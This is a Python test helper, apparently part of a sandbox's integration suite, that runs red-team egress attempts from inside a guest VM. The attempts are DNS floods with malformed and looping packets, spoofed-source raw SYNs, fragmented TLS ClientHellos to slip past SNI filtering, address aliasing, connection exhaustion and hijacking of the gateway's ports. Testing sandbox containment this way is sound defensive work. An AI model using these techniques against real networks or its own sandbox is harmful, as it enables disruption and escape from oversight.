"""Runs inside a guest: the red team's attempts that egress_probe.py has no kind for.

Same contract as tests/integration/egress_probe.py: one attempt, described by JSON in
argv[1] (``{"kind": ..., **arguments}``), prints one JSON line, ``{"ok": true, "detail":
...}`` when the attempt got an answer from the other end and ``{"ok": false, "detail":
"<exception>: <message>"}`` when it did not. Stdlib only (it runs on the guest's
python3); every wait is bounded by TIMEOUT_S, a wait for what should be dropped by
SILENCE_S. Uploaded by tests/egress_guest.py.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import TYPE_CHECKING

# ssl and urllib are imported by the attempts that use them alone: loading libssl takes
# 0.3 s of a TCG guest's CPU, at every probe run.
if TYPE_CHECKING:
    import ssl

TIMEOUT_S = 4.0
#: How long an attempt waits for an answer to what is meant to be dropped (datagrams, a
#: SYN from an address the guest was not given): one that would come crosses only the
#: host's veth and comes in milliseconds, so what these attempts cost is this wait.
SILENCE_S = 2.0
_GATEWAY = "192.0.2.1"
# <linux/sockios.h>, <linux/if.h>: the guest has no /sbin/ip, so ioctls it is.
_SIOCGIFFLAGS, _SIOCSIFFLAGS = 0x8913, 0x8914
_SIOCSIFADDR, _SIOCSIFNETMASK = 0x8916, 0x891C
_IFF_UP = 0x1
_IFREQ_BYTES = 40
_TCP_SYN = 0x02


# --- the guest's own NIC ------------------------------------------------------------


def nic() -> str:
    """The name of the guest's network interface (the first one that is not lo)."""
    names = sorted(name for _, name in socket.if_nameindex() if name != "lo")
    if not names:
        raise OSError("no network interface")
    return names[0]


def from_alias(address: str, port: int, alias: str, data: str = "GET / HTTP/1.0\r\n\r\n") -> str:
    """Give the NIC a second address ``alias`` (/32, as ``<nic>:9``), connect from it to
    ``address``:``port`` and send ``data``; the alias is removed again in any case."""
    label = f"{nic()}:9"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        _ioctl_address(control, _SIOCSIFADDR, label, alias)
        try:
            _ioctl_address(control, _SIOCSIFNETMASK, label, "255.255.255.255")
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
                sock.settimeout(SILENCE_S)
                sock.bind((alias, 0))
                sock.connect((address, port))
                sock.sendall(data.encode())
                return _read_all(sock)
        finally:
            _alias_down(control, label)


def _ioctl_address(sock: socket.socket, request: int, label: str, address: str) -> None:
    sockaddr = struct.pack("=H2s4s8s", socket.AF_INET, b"", socket.inet_aton(address), b"")
    ifreq = label.encode().ljust(16, b"\0") + sockaddr
    fcntl.ioctl(sock.fileno(), request, ifreq.ljust(_IFREQ_BYTES, b"\0"))


def _alias_down(sock: socket.socket, label: str) -> None:
    """Taking an alias label down deletes its address (devinet_ioctl)."""
    name = label.encode().ljust(16, b"\0")
    flags_req = fcntl.ioctl(sock.fileno(), _SIOCGIFFLAGS, name.ljust(_IFREQ_BYTES, b"\0"))
    flags = struct.unpack_from("=H", flags_req, 16)[0] & ~_IFF_UP
    request = (name + struct.pack("=H", flags)).ljust(_IFREQ_BYTES, b"\0")
    fcntl.ioctl(sock.fileno(), _SIOCSIFFLAGS, request)


# --- DNS ----------------------------------------------------------------------------


def dns_records(
    name: str,
    qtype: int = 1,
    qclass: int = 1,
    server: str = _GATEWAY,
    port: int = 53,
    tcp: bool = False,
) -> dict[str, object]:
    """One query, over UDP or (``tcp``) TCP; the reply's rcode, its record count and
    the types and A addresses of every record in it (answer, authority, additional)."""
    query = _query(name, qtype, qclass)
    reply = _exchange_tcp(query, server, port) if tcp else _exchange_udp(query, server, port)
    return _parse_reply(reply)


def dns_flood(
    count: int = 2000, suffix: str = "flood.evil.test", server: str = _GATEWAY, port: int = 53
) -> dict[str, int]:
    """``count`` datagrams at the resolver as fast as it takes them: A and TXT queries
    for fresh names under ``suffix``, garbage, responses, truncated headers and
    compression loops, in turn. How many were sent and how many replies came back."""
    replies = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT_S)
        for number in range(count):
            sock.sendto(_flood_datagram(number, suffix), (server, port))
            replies += _drain(sock, 0.0)
        replies += _drain(sock, 1.0)
    return {"sent": count, "replies": replies}


def _flood_datagram(number: int, suffix: str) -> bytes:
    kind = number % 6
    if kind == 0:
        return _query(f"f{number}.{suffix}", 1, 1)
    if kind == 1:
        return _query(f"t{number}.{os.urandom(20).hex()}.{suffix}", 16, 1)
    if kind == 2:
        return os.urandom(random.randrange(1, 600))
    if kind == 3:  # a response (QR set): must be dropped, not answered
        return bytes([0x12, 0x34, 0x81, 0x80]) + _query("x.allowed.test", 1, 1)[4:]
    if kind == 4:
        return b"\x12\x34\x01"
    # A question whose name is a compression pointer to itself.
    return struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\x00\x01\x00\x01"


def _drain(sock: socket.socket, wait_s: float) -> int:
    received = 0
    deadline = time.monotonic() + wait_s
    while True:
        ready, _, _ = select.select([sock], [], [], max(0.0, deadline - time.monotonic()))
        if not ready:
            return received
        sock.recv(4096)
        received += 1


def _query(name: str, qtype: int, qclass: int) -> bytes:
    query = struct.pack("!HHHHHH", random.randrange(1 << 16), 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        query += bytes([len(label)]) + label.encode()
    return query + b"\0" + struct.pack("!HH", qtype, qclass)


def _exchange_udp(query: bytes, server: str, port: int) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT_S)
        sock.sendto(query, (server, port))
        return sock.recvfrom(4096)[0]


def _exchange_tcp(query: bytes, server: str, port: int) -> bytes:
    with socket.create_connection((server, port), timeout=TIMEOUT_S) as sock:
        sock.sendall(struct.pack("!H", len(query)) + query)
        size = struct.unpack("!H", _read_exactly(sock, 2))[0]
        return _read_exactly(sock, size)


def _parse_reply(reply: bytes) -> dict[str, object]:
    flags, questions, *counts = struct.unpack("!2xHHHHH", reply[:12])
    offset = 12
    for _ in range(questions):
        offset = _skip_name(reply, offset) + 4
    types: list[int] = []
    addresses: list[str] = []
    for _ in range(sum(counts)):
        offset = _skip_name(reply, offset)
        rtype, _class, _ttl, size = struct.unpack("!HHIH", reply[offset : offset + 10])
        offset += 10
        types.append(rtype)
        if rtype == 1 and size == 4:
            addresses.append(socket.inet_ntoa(reply[offset : offset + 4]))
        offset += size
    return {"rcode": flags & 0xF, "records": sum(counts), "types": types, "addresses": addresses}


def _skip_name(data: bytes, offset: int) -> int:
    while True:
        size = data[offset]
        if size == 0:
            return offset + 1
        if size & 0xC0 == 0xC0:
            return offset + 2
        offset += 1 + size


# --- TCP, HTTP and TLS ----------------------------------------------------------------


def raw_http(host: str, data: str, port: int = 80, delay_s: float = 0.0) -> str:
    """Send ``data`` (a request as it goes on the wire) to ``host``:``port``, after
    staying silent for ``delay_s`` seconds; everything the other end sends back."""
    with socket.create_connection((host, port), timeout=TIMEOUT_S) as sock:
        time.sleep(delay_s)
        sock.sendall(data.encode())
        return _read_all(sock)


def tls_fragmented(
    host: str, sni: str, port: int = 443, chunk: int = 8, header_host: str | None = None
) -> str:
    """A TLS handshake whose ClientHello (naming ``sni``) goes out ``chunk`` bytes per
    TCP segment, then one HTTP request (Host ``header_host`` or ``sni``); the reply."""
    import ssl

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=sni)
    with socket.create_connection((host, port), timeout=TIMEOUT_S) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        done = _handshake_step(tls)
        hello = outgoing.read()
        for start in range(0, len(hello), chunk):
            sock.sendall(hello[start : start + chunk])
            time.sleep(0.005)
        while not done:
            incoming.write(_recv_some(sock))
            done = _handshake_step(tls)
            sock.sendall(outgoing.read())
        name = header_host or sni
        tls.write(f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
        sock.sendall(outgoing.read())
        return _read_tls(tls, incoming, sock)


def _handshake_step(tls: ssl.SSLObject) -> bool:
    import ssl

    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return False
    return True


def _read_tls(tls: ssl.SSLObject, incoming: ssl.MemoryBIO, sock: socket.socket) -> str:
    import ssl

    reply = b""
    while True:
        try:
            reply += tls.read(65536)
            continue
        except ssl.SSLWantReadError:
            pass
        except ssl.SSLZeroReturnError:
            break
        data = sock.recv(65536)
        if not data:
            break
        incoming.write(data)
    return reply.decode(errors="replace")


def fetch(url: str, proxy: str | None = None) -> str:
    """``url`` with urllib, the way a program in the sandbox would: with ``http_proxy``
    and ``https_proxy`` set to ``proxy``, or with every proxy variable unset."""
    for variable in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):
        os.environ.pop(variable, None)
        os.environ.pop(variable.upper(), None)
    if proxy is not None:
        os.environ["http_proxy"] = os.environ["https_proxy"] = proxy
    import urllib.request

    with urllib.request.urlopen(url, timeout=TIMEOUT_S) as answer:
        return str(answer.read().decode(errors="replace"))


def hold(
    count: int,
    host: str,
    port: int = 80,
    half_close: bool = False,
    then: str = "allowed.test",
    then_port: int = 80,
) -> str:
    """Open ``count`` connections to ``host``:``port`` and send nothing on them (with
    ``half_close``, shut their sending side: half-open); while all are held, one plain
    HTTP request to ``then``:``then_port``, whose reply this returns."""
    held: list[socket.socket] = []
    address = socket.gethostbyname(host)
    try:
        for _ in range(count):
            sock = socket.create_connection((address, port), timeout=TIMEOUT_S)
            held.append(sock)
            if half_close:
                sock.shutdown(socket.SHUT_WR)
        with socket.create_connection((then, then_port), timeout=TIMEOUT_S) as sock:
            sock.sendall(f"GET / HTTP/1.1\r\nHost: {then}\r\nConnection: close\r\n\r\n".encode())
            return f"held {len(held)}; " + _read_all(sock)
    finally:
        for sock in held:
            sock.close()


# --- the gateway's own sockets --------------------------------------------------------


def take_listener(protocol: str, port: int, address: str = _GATEWAY) -> str:
    """Bind a ``protocol`` ("tcp" or "udp") socket to ``address``:``port`` with
    SO_REUSEADDR and SO_REUSEPORT, as one taking the gateway's traffic would (a gVisor
    guest's sockets live in the namespace the gateway listens in)."""
    kind = socket.SOCK_STREAM if protocol == "tcp" else socket.SOCK_DGRAM
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.bind((address, port))
        return f"bound {protocol} {address}:{port}"


# --- raw IP ---------------------------------------------------------------------------


def spoofed_syn(address: str, port: int, source: str, count: int = 1) -> str:
    """``count`` TCP SYNs to ``address``:``port`` with the forged source ``source``,
    from raw sockets; then waits SILENCE_S for any TCP segment from that address and
    port to reach the guest (it should not: the answer, if any, goes to the forger)."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as listen:
        listen.settimeout(SILENCE_S)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            for _ in range(count):
                raw.sendto(_syn_packet(source, address, port), (address, 0))
        while True:
            packet = listen.recvfrom(65536)[0]
            header = (packet[0] & 0x0F) * 4
            sport = struct.unpack("!H", packet[header : header + 2])[0]
            if socket.inet_ntoa(packet[12:16]) == address and sport == port:
                return f"TCP flags {packet[header + 13]:#x} from {address}:{port}"


def udp_errors(address: str, port: int, count: int) -> list[str]:
    """Send ``count`` datagrams one after the other on a socket connected to
    ``address``:``port``, each waiting for an answer: what each wait ended with (the
    ICMP error the kernel reports on a connected socket, or a timeout)."""
    ended = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT_S)
        sock.connect((address, port))
        for _ in range(count):
            try:
                sock.send(b"exfil")
                sock.recv(512)
                ended.append("answered")
            except OSError as exc:
                ended.append(type(exc).__name__)
    return ended


def raw_sockets() -> dict[str, str]:
    """Which raw and packet sockets root in the guest may open: each kind's name ->
    "opened" or the error that refused it. Nothing is sent on them."""
    kinds = {
        "raw-ip": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
        "raw-tcp": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
        "raw-icmp": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "packet": (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)),
    }
    found = {}
    for name, args in kinds.items():
        try:
            socket.socket(*args).close()
            found[name] = "opened"
        except OSError as exc:
            found[name] = f"{type(exc).__name__}: {exc}"
    return found


def _syn_packet(source: str, destination: str, port: int) -> bytes:
    src, dst = socket.inet_aton(source), socket.inet_aton(destination)
    sport, seq = random.randrange(20000, 60000), random.randrange(1 << 32)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, _TCP_SYN, 65535, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(tcp),
        random.randrange(1 << 16),
        0x4000,
        64,
        6,
        0,
        src,
        dst,
    )
    return ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:] + tcp


# --- helpers ------------------------------------------------------------------------


def _recv_some(sock: socket.socket, most: int = 65536) -> bytes:
    data = sock.recv(most)
    if not data:
        raise ConnectionError("closed by the other end")
    return data


def _read_exactly(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        data += _recv_some(sock, size - len(data))
    return data


def _read_all(sock: socket.socket) -> str:
    data = b""
    while len(data) < 1 << 20:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    return data.decode(errors="replace")


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


KINDS: dict[str, Callable[..., object]] = {
    fn.__name__: fn
    for fn in (
        nic,
        from_alias,
        dns_records,
        dns_flood,
        raw_http,
        tls_fragmented,
        fetch,
        hold,
        take_listener,
        spoofed_syn,
        udp_errors,
        raw_sockets,
    )
}


def main() -> None:
    request = json.loads(sys.argv[1])
    kind = request.pop("kind")
    try:
        detail = KINDS[kind](**request)
        print(json.dumps({"ok": True, "detail": detail}))
    except Exception as exc:  # every failure is an answer, not a crash
        print(json.dumps({"ok": False, "detail": f"{type(exc).__name__}: {exc}"}))


if __name__ == "__main__":
    with contextlib.suppress(BrokenPipeError):
        main()
